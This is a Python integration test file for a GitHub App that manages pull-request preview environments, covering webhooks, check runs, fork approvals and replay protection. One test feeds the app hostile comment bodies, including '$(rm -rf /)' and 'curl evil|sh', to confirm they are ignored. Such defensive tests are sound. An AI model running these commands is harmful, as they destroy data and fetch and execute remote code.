"""ghapp as a GitHub App against the strict fake GitHub: real server, real PostgreSQL, real Terraform on the
scripted module, signed real deliveries (and variants derived from them here)."""

from __future__ import annotations

import copy
import itertools

import pytest

from ghapp.db import desired
from tests.support import Deliveries, environment, fake_sha, wait_for

REPO = "Codertocat/Hello-World"
REPO_ID = 186853002
INSTALLATION = 1
SHA = "ec26c3e57ca3a959ca5aad62de7213c562f8c821"
COMMENT_IDS = itertools.count(900_000_000)  # comments not made on the fake GitHub


@pytest.fixture
def github(fake_github):
    fake_github.add_repo(REPO, REPO_ID)
    fake_github.add_installation(INSTALLATION, "Codertocat", [REPO])
    fake_github.add_pull(REPO, 2, head_sha=SHA, head_ref="changes", user="Codertocat")
    fake_github.set_permission(REPO, "Codertocat", "admin")
    return fake_github


def as_github_app(start_app, github, **defaults):
    """The shared `start_app`, as the GitHub App talking to the fake GitHub (`defaults`: more settings)."""

    async def start(**changes):
        return await start_app(
            app_id=str(github.app_id),
            private_key=github.private_key_pem,
            github_api_url=github.base_url,
            public_url="https://ghapp.example.com",
            **{**defaults, **changes},
        )

    return start


@pytest.fixture
def start_app(start_app, github):
    return as_github_app(start_app, github)


async def post(client, deliveries: Deliveries, event: str, data: dict) -> dict:
    body, headers = deliveries.signed(event, data)
    resp = await client.post("/webhooks", data=body, headers=headers)
    assert resp.status in (200, 202), await resp.text()
    return await resp.json()


async def published(db, env_id: int):
    """The environment once everything about its current state has been published to GitHub."""
    env = await environment(db, env_id)
    return (
        env
        if env and env["observed_generation"] == env["generation"] and env["published_version"] == env["version"]
        else None
    )


def comment_on_pr(
    deliveries: Deliveries,
    body: str,
    *,
    user: str = "Codertocat",
    association: str = "OWNER",
    user_type: str = "User",
    on_pr: bool = True,
    github=None,
) -> dict:
    """`issue_comment.created` (whose real example is on an issue) moved onto PR #2, by `user`; the comment
    exists on the fake GitHub too when `github` is given."""
    data = copy.deepcopy(deliveries.payload("issue_comment.created"))
    data["comment"]["id"] = next(COMMENT_IDS)  # each comment its own: a command is queued once per comment id
    if github is not None:
        data["comment"]["id"] = github.add_comment(REPO, 2, body, user=user, author_association=association)["id"]
    data["issue"]["number"] = 2
    if on_pr:
        data["issue"]["pull_request"] = {
            "url": f"https://api.github.com/repos/{REPO}/pulls/2",
            "html_url": f"https://github.com/{REPO}/pull/2",
        }
    data["comment"]["body"] = body
    data["comment"]["created_at"] = data["comment"]["updated_at"] = deliveries.stamp()
    data["comment"]["user"] = {**data["comment"]["user"], "login": user, "type": user_type}
    data["comment"]["author_association"] = association
    data["sender"] = {**data["sender"], "login": user, "type": user_type}
    data["installation"] = {"id": INSTALLATION, "node_id": "x"}
    return data


def final_check_run(github, sha: str) -> dict:
    runs = [r for r in github.check_runs(REPO) if r["head_sha"] == sha]
    assert len(runs) == 1, runs
    return runs[0]


async def test_opened_pr_gets_check_run_comment_and_deployment(start_app, deliveries, db, github):
    client = await start_app()
    reply = await post(client, deliveries, "pull_request", deliveries.pull_request("opened"))
    env = await wait_for(lambda: _active_published(db, reply["environment_id"]), what="active and published")

    run = final_check_run(github, SHA)
    shown = (
        f"http://{env['name']}.localhost:8081/"  # the gateway's URL (GHAPP_GATEWAY_PORT's default), not the module's
    )
    assert (run["name"], run["status"], run["conclusion"]) == ("Preview environment", "completed", "success")
    assert run["output"]["title"] == f"Active: {shown}"
    assert run["details_url"] == f"https://ghapp.example.com/environments/{env['id']}"
    assert run["external_id"] == str(env["id"])
    assert [a["identifier"] for a in run["actions"]] == ["redeploy", "destroy"]

    (comment,) = github.comments(REPO, 2)
    assert comment["body"].startswith("<!-- ghapp:preview -->")
    assert shown in comment["body"] and "🟢 active" in comment["body"] and env["preview_url"] not in comment["body"]
    assert comment["user"]["login"] == github.bot_login

    (deployment,) = github.deployments(REPO)
    assert (deployment["sha"], deployment["environment"]) == (SHA, "pr-2")
    assert deployment["transient_environment"] is True and deployment["production_environment"] is False
    states = [s["state"] for s in github.deployment_statuses(REPO, deployment["id"])]
    assert states[-1] == "success" and states[0] in ("in_progress", "success")
    assert github.deployment_statuses(REPO, deployment["id"])[-1]["environment_url"] == shown  # "View deployment"

    # two tokens, narrowed to the repository and to the permissions each use needs: reporting, and reading the
    # repository's content (`.github/preview.yml`), which an installation may not have granted yet
    assert all(t.repositories == {REPO} for t in github.tokens)
    assert sorted((t.permissions for t in github.tokens), key=len) == [
        {"contents": "read", "metadata": "read"},
        {
            "checks": "write",
            "deployments": "write",
            "issues": "write",
            "pull_requests": "read",
            "statuses": "read",
            "metadata": "read",
        },
    ]
    creates = [op for op in github.operations() if op.endswith(("/create", "create-comment", "create-deployment"))]
    assert creates == ["checks/create", "issues/create-comment", "repos/create-deployment"]


async def _active_published(db, env_id):
    env = await published(db, env_id)
    return env if env and env["status"] == "active" else None


async def test_push_supersedes_the_old_check_run_and_edits_the_same_comment(start_app, deliveries, db, github):
    client = await start_app()
    env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened")))["environment_id"]
    await wait_for(lambda: _active_published(db, env_id), what="first SHA active")
    new = fake_sha("push")
    github.add_pull(REPO, 2, head_sha=new, head_ref="changes", user="Codertocat")
    await post(client, deliveries, "pull_request", deliveries.pull_request("synchronize", sha=new))
    env = await wait_for(lambda: _active_published(db, env_id), what="second SHA active")
    assert env["deployed_sha"] == new

    assert final_check_run(github, SHA)["conclusion"] == "success", "a finished run of an older commit stays"
    assert final_check_run(github, new)["conclusion"] == "success"
    (comment,) = github.comments(REPO, 2)
    assert f"`{new[:7]}`" in comment["body"]
    deployments = github.deployments(REPO)
    assert [d["sha"] for d in deployments] == [SHA, new]


async def test_push_during_an_apply_ends_the_old_check_run_as_superseded(start_app, deliveries, db, github):
    client = await start_app(terraform_env={"TF_VAR_delay": "2"})
    env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened")))["environment_id"]
    await wait_for(lambda: _in_progress_on_github(github, SHA), what="the first check run in progress")
    new = fake_sha("push")
    github.add_pull(REPO, 2, head_sha=new, head_ref="changes", user="Codertocat")
    await post(client, deliveries, "pull_request", deliveries.pull_request("synchronize", sha=new))
    await wait_for(lambda: _active_published(db, env_id), timeout=40, what="the new SHA active")
    old_run = final_check_run(github, SHA)
    assert (old_run["status"], old_run["conclusion"]) == ("completed", "neutral")
    assert old_run["output"]["title"] == f"Superseded by {new[:7]}"
    assert final_check_run(github, new)["conclusion"] == "success"


async def _in_progress_on_github(github, sha):
    return [r for r in github.check_runs(REPO) if r["head_sha"] == sha and r["status"] == "in_progress"]


async def test_close_marks_the_deployment_inactive(start_app, deliveries, db, github):
    client = await start_app()
    env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened")))["environment_id"]
    await wait_for(lambda: _active_published(db, env_id), what="active")
    await post(client, deliveries, "pull_request", deliveries.pull_request("closed"))
    env = await wait_for(lambda: _status_published(db, env_id, "destroyed"), what="destroyed and published")
    assert env["preview_url"] is None
    (deployment,) = github.deployments(REPO)
    assert github.deployment_statuses(REPO, deployment["id"])[-1]["state"] == "inactive"
    (comment,) = github.comments(REPO, 2)
    assert "destroyed" in comment["body"] and "/preview deploy" in comment["body"]


async def _status_published(db, env_id, status):
    env = await published(db, env_id)
    return env if env and env["status"] == status else None


async def test_failure_shows_the_end_of_the_log(start_app, deliveries, db, github, tmp_path):
    marker = tmp_path / "fail"
    marker.touch()
    client = await start_app(terraform_env={"TF_VAR_fail_marker": str(marker)}, max_attempts=1)
    env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened")))["environment_id"]
    await wait_for(lambda: _failed_published(db, env_id), what="failed for good and published")
    run = final_check_run(github, SHA)
    assert (run["status"], run["conclusion"], run["output"]["title"]) == ("completed", "failure", "Deployment failed")
    assert "scripted failure" in run["output"]["text"]
    deployment = github.deployments(REPO)[0]
    assert github.deployment_statuses(REPO, deployment["id"])[-1]["state"] == "failure"
    assert "Terraform failed" in github.comments(REPO, 2)[0]["body"]


async def _failed_published(db, env_id):
    env = await environment(db, env_id)
    return (
        env
        if env.get("status") == "failed"
        and env["next_attempt_at"] is None
        and env["published_version"] == env["version"]
        else None
    )


async def test_github_outage_holds_a_new_preview_until_its_configuration_is_read_and_reports_catch_up(
    start_app, deliveries, db, github
):
    """A preview is applied with its repository's `.github/preview.yml`, read from GitHub: while GitHub is down,
    that read is retried with backoff, past GHAPP_MAX_ATTEMPTS (an outage is not the pull request's fault); once
    GitHub answers, the preview deploys and every report catches up."""
    client = await start_app()
    await github.down(refuse=True)
    env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened")))["environment_id"]
    env = await wait_for(lambda: _attempts_at_least(db, env_id, 6), timeout=60, what="reads retried past the limit")
    assert env["status"] == "failed" and "cannot read the repository's configuration" in env["last_error"]
    assert env["next_attempt_at"] is not None and env["published_version"] < env["version"]
    assert await db.fetchval("SELECT count(*) FROM runs") == 0
    await github.up()
    await wait_for(lambda: _active_published(db, env_id), timeout=40, what="reports after GitHub came back")
    assert final_check_run(github, SHA)["conclusion"] == "success"
    assert len(github.comments(REPO, 2)) == 1


async def _attempts_at_least(db, env_id, attempts):
    env = await environment(db, env_id)
    return env if env.get("attempts", 0) >= attempts else None


async def test_5xx_and_rate_limits_are_retried(start_app, deliveries, db, github):
    github.fail("checks/create", 502, times=2)
    github.fail("issues/create-comment", 403, rate_limit="secondary", headers={"retry-after": "1"})
    github.fail("repos/create-deployment", 429, headers={"retry-after": "1"})
    client = await start_app()
    env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened")))["environment_id"]
    await wait_for(lambda: _active_published(db, env_id), timeout=40, what="published despite errors")
    assert len(github.check_runs(REPO)) == 1 and len(github.comments(REPO, 2)) == 1
    assert len(github.deployments(REPO)) == 1
    assert [c.status for c in github.calls("checks/create")] == [502, 502, 201]


async def test_expired_token_is_replaced(start_app, deliveries, db, github):
    client = await start_app()
    env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened")))["environment_id"]
    await wait_for(lambda: _active_published(db, env_id), what="active")
    github.expire_tokens()
    await post(client, deliveries, "pull_request", deliveries.pull_request("closed"))
    await wait_for(lambda: _status_published(db, env_id, "destroyed"), timeout=40, what="published with a new token")
    assert len([t for t in github.tokens if "checks" in t.permissions]) == 2


# --- commands ------------------------------------------------------------------------------------------------------


async def test_destroy_command_by_a_maintainer(start_app, deliveries, db, github):
    client = await start_app()
    env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened")))["environment_id"]
    await wait_for(lambda: _active_published(db, env_id), what="active")
    data = comment_on_pr(deliveries, "Thanks!\n/preview destroy", github=github)
    comment_id = data["comment"]["id"]
    assert (await post(client, deliveries, "issue_comment", data))["command"] == "destroy"
    await wait_for(lambda: _status_published(db, env_id, "destroyed"), what="destroyed by the command")
    assert [r["content"] for r in github.reactions(comment_id)] == ["eyes"]
    assert github.calls("repos/get-collaborator-permission-level")[0].path.endswith("/Codertocat/permission")


async def test_command_from_a_reader_is_politely_refused(start_app, deliveries, db, github):
    github.set_permission(REPO, "passerby", "read")
    client = await start_app()
    env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened")))["environment_id"]
    await wait_for(lambda: _active_published(db, env_id), what="active")
    await post(
        client,
        deliveries,
        "issue_comment",
        comment_on_pr(deliveries, "/preview destroy", user="passerby", association="NONE"),
    )
    reply = await wait_for(lambda: _reply_from_bot(github, "Sorry @passerby"), what="a polite refusal")
    assert "write access" in reply["body"]
    env = await environment(db, env_id)
    assert (env["desired"], env["status"]) == ("present", "active")


async def _reply_from_bot(github, start: str):
    return next((c for c in github.comments(REPO, 2) if c["body"].startswith(start)), None)


async def test_help_and_unknown_commands_get_the_help(start_app, deliveries, db, github):
    client = await start_app()
    data = comment_on_pr(deliveries, "/preview launch-rockets", github=github)
    await post(client, deliveries, "issue_comment", data)
    reply = await wait_for(lambda: _reply_from_bot(github, "`/preview launch-rockets` is not a command"), what="help")
    assert "/preview redeploy" in reply["body"]
    github.assert_operations(
        ["apps/create-installation-access-token", "reactions/create-for-issue-comment", "issues/create-comment"]
    )
    assert github.calls("reactions/create-for-issue-comment")[0].json == {"content": "eyes"}
    assert github.calls("apps/create-installation-access-token")[0].json["repository_ids"] == [REPO_ID]


@pytest.mark.parametrize("variant", ["bot", "not a PR", "no command", "quoted", "in a code block"])
async def test_comments_that_are_not_commands_are_ignored(start_app, deliveries, db, github, variant):
    client = await start_app()
    body = {
        "quoted": "> /preview destroy",
        "in a code block": "```\n/preview destroy\n```",
        "no command": "looks good /preview destroy",
    }.get(variant, "/preview destroy")
    data = comment_on_pr(deliveries, body, user_type="Bot" if variant == "bot" else "User", on_pr=variant != "not a PR")
    reply = await post(client, deliveries, "issue_comment", data)
    assert "ignored" in reply
    assert await db.fetchval("SELECT count(*) FROM commands") == 0
    assert github.operations() == []


async def test_hostile_comment_changes_nothing(start_app, deliveries, db, github):
    client = await start_app()
    for body in [
        "/preview $(rm -rf /)",
        "/preview deploy; curl evil|sh",
        "/prеview destroy",  # Cyrillic е
        "/preview\u202edestroy",
        "x" * 70_000 + "\n/preview destroy",
    ]:
        await post(client, deliveries, "issue_comment", comment_on_pr(deliveries, body))
    rows = await db.fetch("SELECT command, unknown FROM commands ORDER BY id")
    assert [(r["command"], r["unknown"]) for r in rows] == [("help", "rm"), ("help", "deploy")]
    assert await db.fetchval("SELECT count(*) FROM environments") == 0


# --- forks ---------------------------------------------------------------------------------------------------------


async def test_fork_pr_waits_for_a_maintainers_approval(start_app, deliveries, db, github):
    github.add_pull(REPO, 2, head_sha=SHA, head_ref="changes", user="contributor", fork=True)
    github.set_permission(REPO, "contributor", "read")
    client = await start_app()
    env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened", fork=True)))[
        "environment_id"
    ]
    env = await wait_for(lambda: published(db, env_id), what="the approval request published")
    assert env["desired"] == "absent" and await db.fetchval("SELECT count(*) FROM runs") == 0
    run = final_check_run(github, SHA)
    assert (run["conclusion"], run["output"]["title"]) == ("action_required", "Approval needed")
    assert "waiting for approval" in github.comments(REPO, 2)[0]["body"]

    # the contributor cannot approve their own PR
    await post(
        client,
        deliveries,
        "issue_comment",
        comment_on_pr(deliveries, "/preview deploy", user="contributor", association="CONTRIBUTOR"),
    )
    await wait_for(lambda: _reply_from_bot(github, "Sorry @contributor"), what="refusal")
    # a maintainer approves this commit
    await post(client, deliveries, "issue_comment", comment_on_pr(deliveries, "/preview deploy"))
    env = await wait_for(lambda: _active_published(db, env_id), what="deployed after approval")
    assert env["approved_sha"] == SHA and env["deployed_sha"] == SHA

    # a later push needs approval again; the approved preview stays up meanwhile
    new = fake_sha("fork-push")
    github.add_pull(REPO, 2, head_sha=new, head_ref="changes", user="contributor", fork=True)
    await post(client, deliveries, "pull_request", deliveries.pull_request("synchronize", sha=new, fork=True))
    env = await wait_for(lambda: _head_published(db, env_id, new), what="new head published")
    assert (env["status"], env["deployed_sha"]) == ("active", SHA)
    assert final_check_run(github, new)["conclusion"] == "action_required"


async def _head_published(db, env_id, sha):
    env = await published(db, env_id)
    return env if env and env["head_sha"] == sha else None


# --- check-run buttons and installation lifecycle -----------------------------------------------------------------


def check_run_event(deliveries: Deliveries, github, env_id: int, action: str, identifier: str | None = None) -> dict:
    data = copy.deepcopy(deliveries.payload(f"check_run.{action}"))
    data["check_run"]["app"]["id"] = github.app_id
    data["check_run"]["external_id"] = str(env_id)
    data["check_run"]["head_sha"] = SHA
    data["repository"]["id"] = REPO_ID
    data["installation"] = {"id": INSTALLATION, "node_id": "x"}
    if identifier:
        data["requested_action"] = {"identifier": identifier}
    return data


async def test_destroy_button_then_rerun_redeploys(start_app, deliveries, db, github):
    for action in ("requested_action", "rerequested"):
        github.set_permission(REPO, deliveries.payload(f"check_run.{action}")["sender"]["login"], "write")
    client = await start_app()
    env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened")))["environment_id"]
    await wait_for(lambda: _active_published(db, env_id), what="active")
    reply = await post(
        client, deliveries, "check_run", check_run_event(deliveries, github, env_id, "requested_action", "destroy")
    )
    assert reply["command"] == "destroy"
    await wait_for(lambda: _status_published(db, env_id, "destroyed"), what="destroyed by the button")
    await post(client, deliveries, "check_run", check_run_event(deliveries, github, env_id, "rerequested"))
    await wait_for(lambda: _active_published(db, env_id), what="redeployed by re-run")


async def test_other_apps_check_runs_are_ignored(start_app, deliveries, db, github):
    client = await start_app()
    data = check_run_event(deliveries, github, 1, "requested_action", "destroy")
    data["check_run"]["app"]["id"] = 999
    assert "ignored" in await post(client, deliveries, "check_run", data)


async def test_uninstalling_destroys_environments_without_telling_github(start_app, deliveries, db, github):
    client = await start_app()
    env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened")))["environment_id"]
    await wait_for(lambda: _active_published(db, env_id), what="active")
    calls_before = len(github.operations())
    data = copy.deepcopy(deliveries.payload("installation.deleted"))
    data["installation"]["id"] = INSTALLATION
    assert (await post(client, deliveries, "installation", data))["environments"] == 1
    env = await wait_for(lambda: _status_published(db, env_id, "destroyed"), what="destroyed")
    assert env["github_gone"] is True
    assert len(github.operations()) == calls_before, "nothing is sent to an installation that is gone"


# --- replays and bound approvals (issue 9, findings 2, 3 and 9) ---------------------------------------------------


async def _fork_waiting(client, deliveries, db, github) -> int:
    """A fork PR at SHA, waiting for approval; `contributor` can only read."""
    github.add_pull(REPO, 2, head_sha=SHA, head_ref="changes", user="contributor", fork=True)
    github.set_permission(REPO, "contributor", "read")
    reply = await post(client, deliveries, "pull_request", deliveries.pull_request("opened", fork=True))
    await wait_for(lambda: published(db, reply["environment_id"]), what="the approval request published")
    return reply["environment_id"]


async def _bot_replies(github) -> list[str]:
    return [c["body"] for c in github.comments(REPO, 2) if not c["body"].startswith("<!-- ghapp:preview -->")]


async def test_a_forks_approval_deploys_the_head_seen_not_one_pushed_later(start_app, deliveries, db, github):
    """Finding 2: the fork author force-pushes after the maintainer's comment, before ghapp processes it."""
    client = await start_app()
    env_id = await _fork_waiting(client, deliveries, db, github)
    approval = comment_on_pr(deliveries, "/preview deploy", github=github)
    unreviewed = fake_sha("force-push")
    github.add_pull(REPO, 2, head_sha=unreviewed, head_ref="changes", user="contributor", fork=True)
    await post(client, deliveries, "issue_comment", approval)  # its pull_request event has not arrived yet

    env = await wait_for(lambda: _active_published(db, env_id), what="the approved commit deployed")
    assert (env["deployed_sha"], env["approved_sha"], env["head_sha"]) == (SHA, SHA, unreviewed)
    note = await wait_for(lambda: _reply_from_bot(github, f"Deploying `{SHA[:7]}`"), what="the note")
    assert f"now `{unreviewed[:7]}`, which needs its own approval" in note["body"]
    assert [r["sha"] for r in await runs_of(db, env_id)] == [SHA]

    # the push's own event arrives: it waits for approval, the approved preview stays
    push = deliveries.pull_request("synchronize", sha=unreviewed, fork=True)
    await post(client, deliveries, "pull_request", push)
    env = await wait_for(lambda: _head_published(db, env_id, unreviewed), what="the new head published")
    assert (env["desired_sha"], env["deployed_sha"]) == (SHA, SHA)
    assert final_check_run(github, unreviewed)["conclusion"] == "action_required"


async def runs_of(db, env_id: int) -> list[dict]:
    return [dict(r) for r in await db.fetch("SELECT * FROM runs WHERE environment_id = $1 ORDER BY id", env_id)]


async def test_a_comment_written_before_the_known_push_must_name_its_commit(start_app, deliveries, db, github):
    """The push's event arrived before the comment written earlier: ghapp cannot tell what the maintainer saw."""
    client = await start_app()
    env_id = await _fork_waiting(client, deliveries, db, github)
    approval = comment_on_pr(deliveries, "/preview deploy", github=github)  # written now...
    pushed = fake_sha("pushed after the comment was written")
    github.add_pull(REPO, 2, head_sha=pushed, head_ref="changes", user="contributor", fork=True)
    await post(client, deliveries, "pull_request", deliveries.pull_request("synchronize", sha=pushed, fork=True))
    await post(client, deliveries, "issue_comment", approval)  # ...delivered after the push's event
    reply = await wait_for(lambda: _reply_from_bot(github, "I cannot tell which commit"), what="the refusal")
    assert "/preview deploy <sha>" in reply["body"]
    env = await environment(db, env_id)
    assert (env["desired"], env["approved_sha"]) == ("absent", None) and await runs_of(db, env_id) == []


async def test_deploy_names_a_commit_of_the_pull_request(start_app, deliveries, db, github):
    client = await start_app()
    env_id = await _fork_waiting(client, deliveries, db, github)
    head = fake_sha("fork head")
    github.set_pull_commits(REPO, 2, [SHA, head])
    await post(client, deliveries, "pull_request", deliveries.pull_request("synchronize", sha=head, fork=True))
    for body, answer in [
        ("/preview deploy main", "`main` is not a commit SHA"),
        (f"/preview deploy {fake_sha('elsewhere')[:9]}", "is not a commit of this pull request"),
    ]:
        await post(client, deliveries, "issue_comment", comment_on_pr(deliveries, body, github=github))
        await wait_for(lambda a=answer: _any_reply(github, a), what=answer)
    assert await runs_of(db, env_id) == []

    await post(
        client,
        deliveries,
        "issue_comment",
        comment_on_pr(deliveries, f"/preview deploy {SHA[:8].upper()}", github=github),
    )
    env = await wait_for(lambda: _active_published(db, env_id), what="the named commit deployed")
    assert (env["deployed_sha"], env["approved_sha"], env["head_sha"]) == (SHA, SHA, head)
    assert github.calls("pulls/list-commits"), "an abbreviated SHA is looked up among the PR's commits"


async def _any_reply(github, text: str):
    return next((b for b in await _bot_replies(github) if text in b), None)


async def test_a_check_run_button_approves_that_check_runs_commit(start_app, deliveries, db, github):
    client = await start_app()
    env_id = await _fork_waiting(client, deliveries, db, github)
    github.set_permission(REPO, deliveries.payload("check_run.rerequested")["sender"]["login"], "write")
    unreviewed = fake_sha("pushed before the button was pressed")
    github.add_pull(REPO, 2, head_sha=unreviewed, head_ref="changes", user="contributor", fork=True)
    press = check_run_event(deliveries, github, env_id, "rerequested")  # "Re-run" on SHA's check run
    assert (await post(client, deliveries, "check_run", press))["command"] == "redeploy"
    env = await wait_for(lambda: _active_published(db, env_id), what="the check run's commit deployed")
    assert (env["deployed_sha"], env["approved_sha"]) == (SHA, SHA)
    assert [r["sha"] for r in await runs_of(db, env_id)] == [SHA]


async def test_a_comment_delivered_again_queues_one_command(start_app, deliveries, db, github):
    """Finding 2: the same comment under a new delivery id (a replay) is not a second command."""
    client = await start_app(workers=False)
    data = comment_on_pr(deliveries, "/preview deploy", github=github)
    assert (await post(client, deliveries, "issue_comment", data))["command"] == "deploy"
    again = await post(client, deliveries, "issue_comment", data)
    assert again == {"ignored": "this comment's command was queued before"}
    assert await db.fetchval("SELECT count(*) FROM commands") == 1


async def test_destroy_ends_a_forks_approval(start_app, deliveries, db, github):
    """Finding 3: after `/preview destroy`, re-pushing the once-approved commit does not deploy it by itself."""
    client = await start_app()
    env_id = await _fork_waiting(client, deliveries, db, github)
    await post(client, deliveries, "issue_comment", comment_on_pr(deliveries, "/preview deploy", github=github))
    await wait_for(lambda: _active_published(db, env_id), what="approved and deployed")
    await post(client, deliveries, "issue_comment", comment_on_pr(deliveries, "/preview destroy", github=github))
    env = await wait_for(lambda: _status_published(db, env_id, "destroyed"), what="destroyed")
    assert env["approved_sha"] is None
    generation = env["generation"]
    await post(client, deliveries, "pull_request", deliveries.pull_request("synchronize", sha=SHA, fork=True))
    env = await environment(db, env_id)
    assert (env["desired"], env["generation"], env["approved_sha"]) == ("absent", generation, None)
    assert len(await runs_of(db, env_id)) == 2  # the apply and the destroy, nothing after


@pytest.mark.parametrize("how", ["request_destroy", "expire", "mark_closed", "installation_gone", "closed event"])
async def test_every_destroy_clears_the_approval(start_app, deliveries, db, how):
    client = await start_app(workers=False)
    env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened", fork=True)))[
        "environment_id"
    ]
    async with db.acquire() as conn:
        await desired.deploy_head(conn, env_id, SHA, approve=True, ttl_seconds=3600)
        assert (await environment(conn, env_id))["approved_sha"] == SHA
        if how == "request_destroy":  # dashboard, API, CLI and `/preview destroy`
            await desired.request_destroy(conn, env_id)
        elif how == "expire":
            await conn.execute("UPDATE environments SET expires_at = now() - interval '1 second'")
            assert await desired.expire(conn) == [env_id]
        elif how == "mark_closed":  # the resync finds it closed
            await desired.mark_closed(conn, env_id)
        elif how == "installation_gone":
            await desired.installation_gone(conn, INSTALLATION)
    if how == "closed event":
        await post(client, deliveries, "pull_request", deliveries.pull_request("closed", fork=True))
    env = await environment(db, env_id)
    assert (env["desired"], env["approved_sha"]) == ("absent", None)


async def test_a_replayed_opened_does_not_bring_back_a_closed_pr(start_app, deliveries, db, github):
    """Finding 9: a captured signed `opened` body replayed with a new delivery id changes nothing."""
    client = await start_app()
    opened = deliveries.pull_request("opened")
    env_id = (await post(client, deliveries, "pull_request", opened))["environment_id"]
    await wait_for(lambda: _active_published(db, env_id), what="active")
    await post(client, deliveries, "pull_request", deliveries.pull_request("closed"))
    env = await wait_for(lambda: _status_published(db, env_id, "destroyed"), what="destroyed")
    reply = await post(client, deliveries, "pull_request", opened)  # the same body, a new delivery id
    assert reply["ignored"].startswith("an older state of this pull request")
    after = await environment(db, env_id)
    assert (after["desired"], after["generation"], after["status"]) == ("absent", env["generation"], "destroyed")


@pytest.mark.parametrize(
    ("order", "desired_after"),
    [
        (["synchronize", "closed"], "absent"),
        (["closed", "synchronize"], "absent"),  # the close delivered first: the push was before it
        (["closed", "reopened"], "present"),
        (["opened", "opened"], "present"),  # the same delivery again
    ],
)
async def test_events_of_one_second(start_app, deliveries, db, order, desired_after):
    """GitHub's `updated_at` has whole seconds: two events of one second, in either order of arrival."""
    client = await start_app(workers=False)
    await post(client, deliveries, "pull_request", deliveries.pull_request("opened", updated_at="2026-03-01T11:00:00Z"))
    for action in order:
        data = deliveries.pull_request(action, sha=fake_sha("one second"), updated_at="2026-03-01T12:00:00Z")
        await post(client, deliveries, "pull_request", data)
    assert await db.fetchval("SELECT desired FROM environments") == desired_after
